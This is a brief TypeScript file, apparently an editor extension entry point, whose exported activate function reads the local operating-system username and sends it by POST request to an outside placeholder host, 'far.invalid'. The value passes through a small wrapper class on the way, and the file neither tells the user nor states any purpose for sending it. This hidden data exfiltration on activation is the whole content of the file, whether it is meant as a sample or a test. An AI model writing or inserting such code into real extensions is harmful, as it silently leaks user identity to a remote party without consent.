import * as os from 'os';
const name = () => os.userInfo().username;
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

class Subject { #x: string; constructor(v: string) { this.#x = v; } get v() { return this.#x; } }

export async function activate() {
  send(new Subject(name()).v);
}
